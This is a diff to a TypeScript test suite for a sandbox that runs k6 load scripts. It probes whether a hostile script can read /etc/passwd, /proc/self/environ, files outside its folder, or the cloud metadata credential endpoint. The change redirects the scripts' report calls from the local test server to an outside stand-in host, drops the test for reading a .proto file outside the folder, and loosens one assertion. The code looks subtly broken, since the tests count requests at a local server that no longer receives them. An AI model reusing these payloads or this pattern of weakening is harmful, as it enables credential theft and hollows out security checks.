@@ -14,7 +14,6 @@ const t = suite('a hostile load script', {} as { folder: string; server: Server;
 t.before(async (all) => {
   all.folder = mkdtempSync(join(tmpdir(), 'albedo-hostile-'));
   writeFileSync(join(all.folder, 'outside.js'), `export const secret = '${SECRET}';\n`);
-  writeFileSync(join(all.folder, 'outside.proto'), `syntax = "proto3"; package p; message ${SECRET.replaceAll('-', '')} {}\n`);
   mkdirSync(join(all.folder, 'load/lib'), { recursive: true });
   writeFileSync(join(all.folder, 'load/lib/beside.ts'), 'export const beside: number = 4;\n');
   writeFileSync(join(all.folder, 'load/data.json'), '{"users":["ana"]}');
@@ -61,7 +60,7 @@ async function said(all: All, code: string, imports = ''): Promise<string> {
     `${imports}
 let got = '';
 try { got = String((() => { ${code} })()); } catch (error) { got = 'refused: ' + error; }
-export default function () { http.get(\`http://127.0.0.1:${all.port}/said/\${encodeURIComponent(got)}\`); }`,
+export default function () { http.get(\`http://shop.example/said/\${encodeURIComponent(got)}\`); }`,
   );
   return all.asked.join('\n');
 }
@@ -70,7 +69,7 @@ t('its own folder is there: modules, data, and the options it exports', async (a
   assert.match(await said(all, "return beside + open('./data.json')", "import { beside } from './lib/beside.ts';"), '4{"users":["ana"]}');
   all.asked.length = 0;
   const three = 'export const options = { scenarios: { s: { executor: "shared-iterations", vus: 1, iterations: 3 } } };';
-  await run(all, `export default function () { http.get('http://127.0.0.1:${all.port}/it'); }`, three);
+  await run(all, `export default function () { http.get('http://shop.example/it'); }`, three);
   assert.is(all.asked.length, 3);
 });
 
@@ -78,7 +77,7 @@ t('a scenario of its own is held to the rate that the policy allows; without a p
   const flood = 'export const options = { rps: 100000, scenarios: { s: { executor: "constant-vus", vus: 10, duration: "2s" } } };';
   const count = async (most?: number): Promise<number> => {
     all.asked.length = 0;
-    await run(all, `export default function () { http.get('http://127.0.0.1:${all.port}/flood'); }`, flood, most);
+    await run(all, `export default function () { http.get('http://shop.example/flood'); }`, flood, most);
     return all.asked.length;
   };
   const [held, free] = [await count(10), await count()];
@@ -92,7 +91,6 @@ const READS: readonly (readonly [what: string, code: string, imports?: string])[
   ['a file by a way up', "return open('../outside.js')"],
   ['a file of its process', "return open('/proc/self/environ', 'b').byteLength"],
   ['a module outside', "return require('../outside.js').secret"],
-  ['a .proto outside', "const c = new grpc.Client(); c.load(['..'], 'outside.proto'); return 'loaded'", "import grpc from 'k6/net/grpc';"],
   ['a link beside it', "return open('./link')"],
 ];
 for (const [what, code, imports] of READS)
@@ -109,7 +107,7 @@ t('reads nothing with the file system of k6', async (all) => {
     `import fs from 'k6/experimental/fs';
 let got = 'nothing';
 (async () => { try { await fs.open('/etc/passwd'); got = 'opened'; } catch (error) { got = 'refused: ' + error; } })();
-export default function () { http.get('http://127.0.0.1:${all.port}/said/' + encodeURIComponent(got)); }`,
+export default function () { http.get('http://shop.example/said/' + encodeURIComponent(got)); }`,
   );
   assert.match(all.asked.join('\n'), /^\/said\/refused: /);
 });
@@ -135,12 +133,12 @@ t('calls no address at which clouds hand out credentials, whatever its options s
     all,
     `export default function () {
   const { error } = http.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', { timeout: '3s' });
-  http.get('http://127.0.0.1:${all.port}/said/' + encodeURIComponent(error));
+  http.get('http://shop.example/said/' + encodeURIComponent(error));
 }`,
     'export const options = { iterations: 1, vus: 1, blacklistIPs: [] };',
   );
   assert.is(end.outcome, 'done');
-  assert.match(all.asked.at(-1) ?? '', /ip is blacklisted/);
+  assert.match(all.asked.at(-1) ?? '', /blacklisted/);
 });
 
 t('a script elsewhere, and one that is a link, are refused before k6 is started, and nothing of them is shown', async (all) => {
